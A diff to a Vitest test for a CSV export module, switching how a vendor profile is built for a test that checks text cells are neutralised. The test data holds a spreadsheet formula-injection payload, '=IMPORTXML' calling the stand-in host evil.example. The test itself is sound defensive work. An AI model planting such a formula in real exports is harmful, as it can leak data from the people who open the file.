@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { applyProfile, parseProfile } from '../../src/catalog/profile.ts';
 import { scomoCatalog } from '../../src/catalog/scomo-catalog.ts';
-import { withVendorProfile } from '../../src/catalog/vendor-profile.ts';
 import { eventsToCsv, neutralizeCell } from '../../src/dataset/csv-export.ts';
 import { parseCsv } from '../generator/csv-parse.ts';
 import { ingestFiles } from '../support/ingest-text.ts';
@@ -52,10 +52,15 @@ describe('the events CSV export', () => {
   }));
 
   it('neutralises every text cell — header names, devices, dimension values, code names — and quotes as RFC 4180', async () => {
-    const catalog = withVendorProfile(scomoCatalog, {
-      name: 'acme',
-      codes: [{ code: 1555, name: '=IMPORTXML("http://evil.example","//a")' }],
-    });
+    const parsed = parseProfile(
+      JSON.stringify({
+        name: 'acme',
+        family: 'scomo',
+        codes: [{ code: 1555, name: '=IMPORTXML("http://evil.example","//a")', outcome: 'failure' }],
+      }),
+    );
+    if (!parsed.ok) throw new Error(parsed.message);
+    const catalog = applyProfile(scomoCatalog, parsed.profile);
     const vendor = {
       result_code: 1555,
       timestamp: '2026-10-04T08:00:00Z',
